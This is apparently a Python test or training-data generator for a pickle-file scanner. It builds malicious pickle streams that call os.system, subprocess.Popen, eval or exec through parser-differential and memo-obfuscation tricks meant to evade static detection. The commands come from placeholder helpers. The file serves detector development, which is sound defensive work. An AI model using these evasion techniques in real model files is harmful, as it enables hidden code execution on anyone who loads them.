"""Payload builders for docs/threats.md sections C (stream / parser differentials) and D (stack /
memo resolution): streams a loader runs but a naive static reader misparses or misattributes.
"""

from __future__ import annotations

import dataclasses
import pickle
import pickletools
import random
import struct
from typing import Any

from fastscan.train.opwriter import Call, G, Ops, norm_qualname
from fastscan.train.payload_kit import (
    Builder,
    Sample,
    benign_value,
    dangerous_target,
    embed,
    harmless_code,
    harmless_command,
    make_sample,
    random_ops,
    random_protocol,
    register,
    rot13,
    simple_sample,
    system_call,
)

__all__ = ["C_BUILDERS", "D_BUILDERS"]

C_BUILDERS: dict[str, Builder] = {}
D_BUILDERS: dict[str, Builder] = {}

_VALID_OPCODES = {op.code for op in pickletools.opcodes}
_INVALID_OPCODES = bytes(b for b in range(256) if chr(b) not in _VALID_OPCODES)


# -- C: stream / parser differentials --------------------------------------------------------
@register(C_BUILDERS, "C1")
def build_C1(rng: random.Random) -> Sample:
    """Payload first, then garbage: the loader runs REDUCE before it meets the corruption."""
    ops = random_ops(rng, random_protocol(rng))
    ops.value(system_call(rng, "c1"))
    tail = rng.choice(
        [
            bytes([rng.choice(_INVALID_OPCODES)]) + rng.randbytes(rng.randint(0, 512)),
            pickle.BINUNICODE + struct.pack("<I", 1 << 20) + b"fastscan",  # truncated operand
            pickle.POP + rng.randbytes(rng.randint(1, 64)).replace(b".", b"\xff"),
        ]
    )
    return make_sample("C1", "structure", ops, ops.finish(stop=False, frame=False) + tail)


@register(C_BUILDERS, "C2")
def build_C2(rng: random.Random) -> Sample:
    """Trailing junk after STOP; `pickle.load` never looks at it."""
    sample = simple_sample("C2", "structure", rng, system_call(rng, "c2"))
    junk = rng.choice(
        [b"\n" * rng.randint(1, 9), rng.randbytes(rng.randint(1, 2048)), b"fastscan junk\x00"]
    )
    return dataclasses.replace(sample, data=sample.data + junk)


def _benign_pickle(rng: random.Random) -> bytes:
    ops = random_ops(rng, random_protocol(rng))
    ops.value(benign_value(rng))
    return ops.finish()


@register(C_BUILDERS, "C3")
def build_C3(rng: random.Random) -> Sample:
    """Benign pickle(s), then the malicious one (loaders that call load() repeatedly)."""
    bad = simple_sample("C3", "structure", rng, system_call(rng, "c3"))
    before = b"".join(_benign_pickle(rng) for _ in range(rng.randint(1, 3)))
    after = b"".join(_benign_pickle(rng) for _ in range(rng.randint(0, 2)))
    return dataclasses.replace(bad, data=before + bad.data + after)


@register(C_BUILDERS, "C4")
def build_C4(rng: random.Random) -> Sample:
    """Junk padding between two streams; a resync budget smaller than the padding hides #2."""
    bad = simple_sample("C4", "structure", rng, system_call(rng, "c4"))
    size = rng.choice([1, 3, 17, 255, 1024, 4097, 65_537, 1_100_000])
    fill = rng.choice([b"\x00", b"\xff", b"\xfe\xff"])
    pad = (fill * size)[:size] if rng.random() < 0.6 else rng.randbytes(size)
    data = _benign_pickle(rng) + pad + bad.data
    return dataclasses.replace(bad, data=data, oracle_sees_all=False)


@register(C_BUILDERS, "C5")
def build_C5(rng: random.Random) -> Sample:
    """FRAME length that ends inside an operand (or before the payload); C ignores frame ends."""
    ops = Ops(rng.choice([4, 5]), memo=False)
    ops.blob(rng.randbytes(rng.randint(8, 200))).op(pickle.POP)
    head_len = len(ops.body)
    ops.value(system_call(rng, "c5")).op(pickle.STOP)
    body = bytes(ops.body)
    variant = rng.randrange(3)
    if variant == 0:  # frame ends in the middle of the SHORT_BINBYTES operand
        frame_len = rng.randint(3, head_len - 2)
    elif variant == 1:  # frame covers only the benign prefix; payload runs unframed
        frame_len = head_len
    else:  # frame ends inside the payload's own opcodes
        frame_len = rng.randint(head_len + 1, len(body) - 1)
    head = pickle.PROTO + bytes([ops.protocol]) + pickle.FRAME + struct.pack("<Q", frame_len)
    return make_sample("C5", "structure", ops, head + body)


@register(C_BUILDERS, "C7")
def build_C7(rng: random.Random) -> Sample:
    """Protocol-0 text pickle: `\\n` or `\\r\\n` line ends, `__builtin__` names, STRING/UNICODE."""
    ops = Ops(0, memo=rng.random() < 0.8)
    ops.newline = rng.choice([b"\n", b"\r\n"])  # INT/PUT/GET tolerate \r\n in the C loader
    ops.text_kind = rng.choice([pickle.UNICODE, pickle.STRING])
    tag = "c7"
    payload = rng.choice(
        [
            Call(G("__builtin__", "eval"), (harmless_code(rng, tag),)),
            Call(G("__builtin__", "exec"), (harmless_code(rng, tag),)),
            system_call(rng, tag),
            Call(G("subprocess", "check_output"), (["sh", "-c", harmless_command(rng, tag)],)),
        ]
    )
    ops.value(embed(rng, payload))
    return make_sample("C7", "process", ops, ops.finish())


@register(C_BUILDERS, "C8")
def build_C8(rng: random.Random) -> Sample:
    """INST: MARK, args, `i module\\nname\\n` calls without GLOBAL+REDUCE."""
    cmd = harmless_command(rng, "c8")
    fn, args = rng.choice([(G("os", "system"), (cmd,)), (G("subprocess", "Popen"), (cmd,))])
    return simple_sample("C8", "process", rng, Call(fn, args, via="inst"), lo=0)


def _call_variant(key: str, via: str, lo: int) -> Builder:
    def build(rng: random.Random) -> Sample:
        cmd = harmless_command(rng, key)
        if via == "obj":
            call = Call(rng.choice([G("os", "system"), G("subprocess", "getoutput")]), (cmd,), via)
        else:  # NEWOBJ(_EX) calls cls.__new__: a dangerous class is the signal
            call = Call(G("subprocess", "Popen"), (["sh", "-c", cmd],), via, {"shell": False})
        return simple_sample(key, "process", rng, call, lo=lo)

    build.__name__ = f"build_{key.replace('.', '_')}"
    return build


C_BUILDERS["C9.obj"] = _call_variant("C9.obj", "obj", 1)
C_BUILDERS["C9.newobj"] = _call_variant("C9.newobj", "newobj", 2)
C_BUILDERS["C9.newobj_ex"] = _call_variant("C9.newobj_ex", "newobj_ex", 4)


@register(C_BUILDERS, "C10")
def build_C10(rng: random.Random) -> Sample:
    """The call's result is discarded with POP or POP_MARK, then a benign object is returned."""
    ops = random_ops(rng, random_protocol(rng, 1))
    with_mark = rng.random() < 0.5
    if with_mark:
        ops.op(pickle.MARK)
    ops.value(system_call(rng, "c10"))
    ops.op(pickle.POP_MARK if with_mark else pickle.POP)
    ops.value(benign_value(rng))
    return make_sample("C10", "structure", ops, ops.finish())


def _ext(ops: Ops, code: int) -> None:
    if code < 256:
        ops.op(pickle.EXT1, bytes([code]))
    elif code < 65536:
        ops.op(pickle.EXT2, struct.pack("<H", code))
    else:
        ops.op(pickle.EXT4, struct.pack("<i", code))


@register(C_BUILDERS, "C11")
def build_C11(rng: random.Random) -> Sample:
    """EXT1/2/4: the callable comes from copyreg's registry (optionally registered in-stream)."""
    ops = random_ops(rng, random_protocol(rng, 2))
    code = rng.choice([rng.randint(1, 255), rng.randint(256, 65535), rng.randint(65536, 2**30)])
    if rng.random() < 0.5:  # register first, so a stock interpreter resolves it too
        ops.value(Call(G("copyreg", "add_extension"), ("os", "system", code))).op(pickle.POP)
    _ext(ops, code)
    ops.tuple_of((harmless_command(rng, "c11"),)).op(pickle.REDUCE)
    return make_sample("C11", "process", ops, ops.finish(), hidden=("os.system",))


@register(C_BUILDERS, "C12")
def build_C12(rng: random.Random) -> Sample:
    """PERSID/BINPERSID with a persistent id that itself carries the payload."""
    ops = random_ops(rng, random_protocol(rng))
    if ops.protocol == 0:
        ops.op(pickle.PERSID, b"os.system\n").op(pickle.POP)
        ops.value(system_call(rng, "c12"))
    else:
        pid = (
            "storage",
            system_call(rng, "c12"),
            str(rng.randrange(99)),
            "cpu",
            rng.randint(1, 64),
        )
        ops.tuple_of(pid).op(pickle.BINPERSID)
    return make_sample("C12", "structure", ops, ops.finish())


@register(C_BUILDERS, "C13")
def build_C13(rng: random.Random) -> Sample:
    """Payload, then a GLOBAL whose name bytes are not UTF-8: the parser dies after the call."""
    ops = random_ops(rng, random_protocol(rng))
    ops.value(system_call(rng, "c13")).op(pickle.POP)
    bad = rng.choice([b"\xff\xfe", b"os\x80", b"caf\xe9", b"\xc3\x28"])
    ops.op(pickle.GLOBAL, bad + b"\n" + rng.choice([b"system", bad]) + b"\n")
    ops.tuple_of(()).op(pickle.REDUCE)
    return make_sample("C13", "structure", ops, ops.finish())


@register(C_BUILDERS, "C14")
def build_C14(rng: random.Random) -> Sample:
    """Duplicate or misplaced PROTO, or an unknown opcode after the payload."""
    ops = random_ops(rng, random_protocol(rng, 2))
    variant = rng.randrange(3)
    if variant == 1:
        ops.value(benign_value(rng)).op(pickle.POP)
        ops.op(pickle.PROTO, bytes([rng.randint(2, 5)]))
    ops.value(system_call(rng, "c14"))
    if variant == 2:
        ops.op(bytes([rng.choice(_INVALID_OPCODES)]))
    data = ops.finish(frame=False)
    if variant == 0:
        data = pickle.PROTO + bytes([rng.randint(2, 5)]) + data
    return make_sample("C14", "structure", ops, data)


@register(C_BUILDERS, "C16")
def build_C16(rng: random.Random) -> Sample:
    """No PROTO; a 90-byte BINBYTES first, so the file starts with `BZ` like bzip2/joblib."""
    ops = random_ops(rng, rng.choice([1, 2, 3]))
    ops.value(system_call(rng, "c16")).op(pickle.STOP)
    blob = b"h91AY&SY" + rng.randbytes(82)
    data = pickle.BINBYTES + struct.pack("<I", 90) + blob + pickle.POP + bytes(ops.body)
    return make_sample("C16", "structure", ops, data)


# -- D: stack / memo resolution ----------------------------------------------------------------
def _pad_literals(ops: Ops, rng: random.Random) -> None:
    """Benign strings pushed and popped near STACK_GLOBAL, to fool look-back heuristics."""
    for _ in range(rng.randint(0, 4)):
        ops.text(rng.choice(["collections", "OrderedDict", "torch", "FloatStorage", "numpy"]))
        ops.op(pickle.POP)


def _finish_call(ops: Ops, args: tuple[Any, ...], key: str, family: str, **kw: Any) -> Sample:
    ops.tuple_of(args).op(pickle.REDUCE)
    return make_sample(key, family, ops, ops.finish(), **kw)


@register(D_BUILDERS, "D1")
def build_D1(rng: random.Random) -> Sample:
    """STACK_GLOBAL operands memoized early, popped, and replayed with GET."""
    module, name, args = dangerous_target(rng, "d1")
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False)
    slots = []
    for text in (module, name):
        ops.text(text)
        slots.append(ops.put())
        ops.op(pickle.POP)
        _pad_literals(ops, rng)
    ops.get(slots[0]).get(slots[1]).op(pickle.STACK_GLOBAL)
    ops.globals.append(norm_qualname(module, name))
    return _finish_call(ops, args, "D1", "process")


@register(D_BUILDERS, "D2")
def build_D2(rng: random.Random) -> Sample:
    """PUT stores the stack top, not the previous opcode's argument."""
    module, name, args = dangerous_target(rng, "d2")
    ops = Ops(rng.choice([4, 5]), memo=False)
    slots = []
    for real, decoy in ((module, "collections"), (name, "OrderedDict")):
        ops.text(real).text(decoy).op(pickle.POP)
        slots.append(ops.memo_next)
        ops.put_at(ops.memo_next).op(pickle.POP)
        ops.memo_next += 1
    ops.get(slots[0]).get(slots[1]).op(pickle.STACK_GLOBAL)
    ops.globals.append(norm_qualname(module, name))
    return _finish_call(ops, args, "D2", "process")


@register(D_BUILDERS, "D3")
def build_D3(rng: random.Random) -> Sample:
    """GET of a memo key a naive reader lacks: implicit MEMOIZE/gapped PUT, or absent after."""
    module, name, args = dangerous_target(rng, "d3")
    ops = Ops(rng.choice([4, 5]), memo=False)
    if rng.random() < 0.5:  # key exists for the loader (gapped index), missing for naive readers
        first = rng.randint(300, 70_000)
        ops.text(module).put_at(first).op(pickle.POP)
        ops.text(name).op(pickle.MEMOIZE).op(pickle.POP)  # MEMOIZE uses len(memo) == 1
        ops.get(first).get(1).op(pickle.STACK_GLOBAL)
        ops.globals.append(norm_qualname(module, name))
        return _finish_call(ops, args, "D3", "process")
    ops.value(Call(G(module, name), args))  # payload first, then a key that never existed
    ops.op(pickle.POP).get(rng.randint(0, 255))
    return make_sample("D3", "process", ops, ops.finish())


@register(D_BUILDERS, "D4")
def build_D4(rng: random.Random) -> Sample:
    """Memo slots first hold an int / dict, later overwritten with the operand strings."""
    module, name, args = dangerous_target(rng, "d4")
    ops = Ops(rng.choice([4, 5]), memo=False)
    a, b = rng.sample(range(0, 200), 2)
    ops.integer(rng.randrange(1 << 20)).put_at(a).op(pickle.POP)
    ops.dict_of({"k": rng.randrange(9)}).put_at(b).op(pickle.POP)
    ops.text(module).put_at(a).op(pickle.POP)
    ops.text(name).put_at(b).op(pickle.POP)
    ops.get(a).get(b).op(pickle.STACK_GLOBAL)
    ops.globals.append(norm_qualname(module, name))
    return _finish_call(ops, args, "D4", "process")


@register(D_BUILDERS, "D5")
def build_D5(rng: random.Random) -> Sample:
    """STACK_GLOBAL fed by STRING / BINSTRING / SHORT_BINSTRING (decoded to str by the loader)."""
    module, name, args = dangerous_target(rng, "d5")
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=rng.random() < 0.5)
    for text in (module, name):
        ops.text(text, rng.choice([pickle.STRING, pickle.BINSTRING, pickle.SHORT_BINSTRING]))
    ops.op(pickle.STACK_GLOBAL)
    ops.globals.append(norm_qualname(module, name))
    return _finish_call(ops, args, "D5", "process")


@register(D_BUILDERS, "D6")
def build_D6(rng: random.Random) -> Sample:
    """STACK_GLOBAL operands computed at load time (rot13, concatenation, str.join)."""
    module, name, args = dangerous_target(rng, "d6")
    ops = Ops(rng.choice([4, 5]), memo=rng.random() < 0.5)
    how = rng.randrange(3)
    for text in (module, name):
        cut = max(1, len(text) // 2)
        if how == 0:
            ops.value(Call(G("codecs", "decode"), (rot13(text), "rot13")))
        elif how == 1:
            ops.value(Call(G("operator", "add"), (text[:cut], text[cut:])))
        else:
            ops.value(Call(G("builtins", "str.join"), ("", list(text))))
    ops.op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D6", "import_resolver", hidden=(norm_qualname(module, name),))


@register(D_BUILDERS, "D7")
def build_D7(rng: random.Random) -> Sample:
    """BUILD on an allowlisted module sets attributes that later serve as STACK_GLOBAL operands."""
    module, name, args = dangerous_target(rng, "d7")
    attrs = rng.sample(["_rebuild_tensor", "_rebuild_parameter", "_rebuild_tensor_v2"], 2)
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False, stack_global=False)
    ops.glob("torch", "_utils").dict_of({attrs[0]: module, attrs[1]: name}).op(pickle.BUILD)
    ops.op(pickle.POP)
    for attr in attrs:
        ops.glob("torch._utils", attr)
    ops.op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D7", "tamper", hidden=(norm_qualname(module, name),))


@register(D_BUILDERS, "D8")
def build_D8(rng: random.Random) -> Sample:
    """Attribute smuggling: BUILD stores strings on `numpy.prod`; dotted GLOBAL reads them back."""
    module, name, args = dangerous_target(rng, "d8")
    host = rng.choice(["prod", "size", "sum"])
    ops = Ops(rng.choice([4, 5]), memo=False, stack_global=rng.random() < 0.5)
    ops.glob("numpy", host).dict_of({"a": module, "b": name}).op(pickle.BUILD).op(pickle.POP)
    ops.glob("numpy", f"{host}.a").glob("numpy", f"{host}.b").op(pickle.STACK_GLOBAL)
    return _finish_call(ops, args, "D8", "tamper", hidden=(norm_qualname(module, name),))


@register(D_BUILDERS, "D9")
def build_D9(rng: random.Random) -> Sample:
    """SETITEM into pydantic's lazy-import registry, then `GLOBAL pydantic Popen`."""
    ops = Ops(rng.choice([2, 3, 4, 5]), memo=False)
    ops.glob("pydantic", "_dynamic_imports").text("Popen").tuple_of(("pydantic", "subprocess"))
    ops.op(pickle.SETITEM).op(pickle.POP)
    ops.glob("pydantic", "Popen")
    args = (["sh", "-c", harmless_command(rng, "d9")],)
    return _finish_call(ops, args, "D9", "tamper", hidden=("subprocess.Popen",))
